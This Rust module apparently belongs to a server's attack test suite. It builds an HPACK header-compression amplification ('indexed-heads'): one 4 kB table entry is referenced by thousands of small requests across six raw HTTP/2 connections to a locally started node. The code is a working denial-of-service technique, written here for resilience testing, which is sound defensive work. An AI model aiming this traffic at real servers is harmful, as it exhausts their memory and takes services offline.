//! Heads that are large where they are decoded, and small on the wire (RFC 7541, 6.1).

use super::{Attack, Effort, Party, Stage};
use crate::frames::{END_HEADERS, END_STREAM, HEADERS, HELLO, frame, request};
use crate::origins;
use crate::raw::Raw;

/// Connections of the attacker.
const CONNECTIONS: usize = 6;

/// Streams of each.
const STREAMS: u32 = 1_000;

/// Bytes of the value that fills a table of 4096 (RFC 7541, 4.1: 32 bytes and the name count too).
const VALUE: usize = 3_996;

/// References of a head to that value: 62 KiB by the count of RFC 7541.
const REFERENCES: usize = 15;

/// One entry of the table, referred to by thousands of heads.
pub(super) const INDEXED: Attack = Attack {
    name: "indexed-heads",
    by: Party::Stranger,
    summary: "6 connections of 1,000 requests, each 15 references to one field of 4 kB",
    prepare,
    run,
};

fn prepare() -> Stage {
    let silent = origins::tcp_silent();
    let route = format!("{{ terminate: \"{}\" }}", silent.address());
    Stage::start("web: { http: 127.0.0.1:0 }", &route, "").keeping(silent)
}

fn run(stage: &Stage) -> Effort {
    let mut effort = Effort::default();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::connect(stage.node.address("web"));
        let mut bytes = HELLO.to_vec();
        for number in 0..STREAMS {
            let block = if number == 0 { first() } else { further() };
            let stream = 2 * number + 1;
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
        }

        // The node may end the connection at any time.
        raw.send_if_open(&bytes);
        effort.bytes += bytes.len() as u64;
        effort.attempts += u64::from(STREAMS);
        effort.hold(raw);
    }

    effort
}

/// A head that fills the table by one literal field with incremental indexing (RFC 7541, 6.2.1).
fn first() -> Vec<u8> {
    let mut block = request("GET", "origin.test", "/");
    block.push(0x40);
    block.extend([5]);
    block.extend(b"x-pad");
    // 127 and the rest in two groups of seven bits (RFC 7541, 5.1).
    let rest = VALUE - 127;
    block.extend([0x7f, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]);
    block.extend([b'x'; VALUE]);
    block
}

/// One that refers to it: index 62 is the newest entry.
fn further() -> Vec<u8> {
    let mut block = request("GET", "origin.test", "/");
    block.extend([0xbe; REFERENCES]);
    block
}
